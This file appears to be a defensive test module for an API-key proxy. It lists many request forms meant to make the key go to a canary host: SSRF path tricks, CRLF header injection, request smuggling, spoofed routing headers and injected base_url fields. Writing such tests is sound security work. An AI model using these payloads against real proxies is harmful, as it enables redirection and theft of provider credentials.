/**
 * Every way that we know of by which a client might choose where a provider key is sent.
 */
import type { RawRequest } from './stage.ts';

/** A name, and the request for a canary at that `host:port`. */
export type Form = [name: string, request: (canary: string) => RawRequest];

export const PREFIX = '/proxy/openai/v1';

/** Targets in which the canary's `host:port` is `C`. */
const TARGETS: readonly string[] = [
  'http://C/v1/models',
  'http://C/proxy/openai/v1/models',
  'https://C/v1/models',
  '//C/v1/models',
  '///C/v1/models',
  '/\\C/v1/models',
  '\\\\C/v1/models',
  'C/v1/models',
  '*',
  '@C/v1/models',
  '/@C/v1/models',
  '/v1//C/x',
  '/v1/chat/completions@C',
  '/v1/chat/completions//C/',
  '/v1/chat/completions/../../@C',
  '/proxy//C/v1/models',
  '/proxy/C/v1/models',
  '/proxy/http://C/v1/models',
  '/proxy/http:/C/v1/models',
  '/proxy/openai@C/v1/models',
  '/proxy/openai.C/v1/models',
  '/proxy/openai/@C/v1/models',
  `${PREFIX}@C/models`,
  `${PREFIX}:80@C/models`,
  `${PREFIX}.C/models`,
  `${PREFIX}//C/models`,
  `${PREFIX}/@C/models`,
  `${PREFIX}/x@C/models`,
  `${PREFIX}/:80@C/models`,
  `${PREFIX}/;@C/models`,
  `${PREFIX}/.@C/models`,
  `${PREFIX}/C/models`,
  `${PREFIX}/http://C/models`,
  `${PREFIX}/http:/C/models`,
  `${PREFIX}/http:C/models`,
  `${PREFIX}/https%3A//C/models`,
  `${PREFIX}/..//C/models`,
  `${PREFIX}/../../../@C/models`,
  `${PREFIX}/..;/..;/C/models`,
  `${PREFIX}/./C/models`,
  `${PREFIX}/%2e%2e/%2e%2e/@C/models`,
  `${PREFIX}/..%2f..%2f@C/models`,
  `${PREFIX}/%2f%2fC/models`,
  `${PREFIX}/%5c%5cC/models`,
  `${PREFIX}/\\C/models`,
  `${PREFIX}/\\\\C/models`,
  `${PREFIX}/%40C/models`,
  `${PREFIX}/%00@C/models`,
  `${PREFIX}/%0d%0aHost:%20C/models`,
  `${PREFIX}/x%20HTTP/1.1%0d%0aHost:C/models`,
  `${PREFIX}/%252f%252fC/models`,
  `${PREFIX}/#@C/models`,
  `${PREFIX}/?@C/models`,
  `${PREFIX}/models?http://C/`,
  `${PREFIX}/models?//C/`,
  `${PREFIX}/models#//C/`,
  `${PREFIX}/\u00ff@C/models`,
  '/PROXY/openai/v1/@C/models',
  '/proxy/OPENAI/v1/@C/models',
  '/proxy/openai/V1/@C/models',
];

const QUERY_NAMES = ['url', 'uri', 'base_url', 'baseURL', 'api_base', 'endpoint', 'host', 'target', 'upstream', 'proxy', 'redirect_uri', 'callback', 'webhook', 'region', 'openai_base_url'];

/** Sent behind the signature's back, as anybody between or a hostile client would. */
const UNSIGNED_HEADERS = [
  'x-forwarded-host: C',
  'x-forwarded-server: C',
  'x-forwarded-proto: http',
  'x-forwarded-port: 1',
  'x-forwarded-prefix: //C',
  'forwarded: host=C;proto=http',
  'x-host: C',
  'x-real-host: C',
  'x-original-host: C',
  'x-original-url: http://C/v1',
  'x-rewrite-url: http://C/v1',
  'x-http-host-override: C',
  'x-upstream: http://C',
  'x-upstream-url: http://C/v1',
  'x-target-url: http://C/v1',
  'x-base-url: http://C/v1',
  'x-proxy-url: http://C',
  'x-portkey-custom-host: http://C/v1',
  'x-portkey-provider: custom',
  'x-portkey-config: {"custom_host":"http://C/v1"}',
  'helicone-target-url: http://C',
  'helicone-openai-api-base: http://C/v1',
  'x-litellm-api-base: http://C/v1',
  'cf-aig-custom-host: C',
  'api-base: http://C/v1',
  'base-url: http://C/v1',
  'location: http://C/',
  'content-location: http://C/',
  'destination: http://C/',
  'referer: http://C/',
  'origin: http://C',
  'via: 1.1 C',
  'proxy-connection: C',
  'accept: text/event-stream, http://C/v1',
  'connection: host, authorization',
  'upgrade: http://C',
  'te: trailers, C',
  'openai-base-url: http://C/v1',
  'x-keyguard-upstream: http://C/v1',
  'host: C',
];

const SIGNED_HEADERS = ['idempotency-key', 'openai-beta', 'openai-organization', 'openai-project', 'x-keyguard-credential', 'x-keyguard-token'];

const BODY_NAMES = ['base_url', 'baseURL', 'api_base', 'api_url', 'endpoint', 'host', 'url', 'proxy', 'upstream', 'provider', 'model', 'custom_llm_provider', 'webhook_url', 'server_url'];

function nested(depth: number, name: string, value: string): object {
  return depth === 1 ? { [name]: value } : { [['metadata', 'extra_body', 'litellm_params', 'user_config', 'options'][depth % 5]!]: nested(depth - 1, name, value) };
}

export const FORMS: readonly Form[] = [
  ...TARGETS.flatMap((target): Form[] =>
    ['GET', 'POST'].map((method): Form => [`${method} ${target}`, (canary) => ({ method, target: target.replaceAll('C', canary), body: method === 'POST' ? '{}' : '' })]),
  ),
  ['CONNECT', (canary) => ({ method: 'CONNECT', target: canary })],
  ['OPTIONS', (canary) => ({ method: 'OPTIONS', target: `http://${canary}/` })],
  ...QUERY_NAMES.map((name): Form => [`query ${name}`, (canary) => ({ target: `${PREFIX}/chat/completions?${name}=http://${canary}/v1&${name}=${canary}`, body: '{}' })]),
  ...UNSIGNED_HEADERS.map((header): Form => [`header ${header}`, (canary) => ({ target: `${PREFIX}/chat/completions`, body: '{}', headers: [header.replaceAll('C', canary)] })]),
  ['host alone', (canary) => ({ target: `${PREFIX}/models`, method: 'GET', host: canary })],
  ...SIGNED_HEADERS.map((name): Form => [`signed header ${name}`, (canary) => ({ target: `${PREFIX}/chat/completions`, body: '{}', covered: [[name, `http://${canary}/v1`]] })]),
  ['signed content-type', (canary) => ({ target: `${PREFIX}/chat/completions`, body: '{}', contentType: `message/external-body; access-type=URL; URL="http://${canary}/"` })],
  ...BODY_NAMES.flatMap((name): Form[] =>
    [1, 2, 3, 4, 5].map((depth): Form => [
      `body ${name} at depth ${depth}`,
      (canary) => ({ target: '/v1/chat/completions', body: JSON.stringify({ model: 'm', messages: [], ...nested(depth, name, `http://${canary}/v1`) }) }),
    ]),
  ),
  ['body as a form', (canary) => ({ target: `${PREFIX}/files`, body: `base_url=http://${canary}/v1&url=http://${canary}/`, contentType: 'application/x-www-form-urlencoded' })],
  ['body that smuggles', (canary) => ({ target: `${PREFIX}/files`, body: `0\r\n\r\nGET http://${canary}/ HTTP/1.1\r\nHost: ${canary}\r\n\r\n`, contentType: 'text/plain' })],
];
